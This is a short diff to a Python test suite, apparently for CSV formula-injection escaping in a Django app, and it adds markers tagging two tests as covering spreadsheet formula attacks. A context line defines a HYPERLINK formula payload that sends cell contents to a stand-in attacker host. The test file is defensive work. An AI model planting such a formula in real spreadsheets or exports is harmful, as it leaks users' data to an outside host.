@@ -19,6 +19,7 @@ from tests.factories import assign
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"see")'
 
 
+@pytest.mark.attack("formulas in spreadsheets")
 @example([["'=1+1", "''@x"], ["'-1", "'"]])
 @given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2), min_size=1))
 def test_every_field_comes_back(rows: list[list[str]]) -> None:
@@ -36,6 +37,7 @@ def test_numbers_and_usual_texts_stay(value: str) -> None:
     assert escape_formulas(csv_line(["x", value]).encode()) == csv_line(["x", value]).encode()
 
 
+@pytest.mark.attack("formulas in spreadsheets")
 @pytest.mark.django_db
 def test_the_page_escapes_and_the_command_does_not(client: Client, make_dataset: Any, tmp_path: Path) -> None:
     dataset = make_dataset(3, classes=("cat", EVIL))
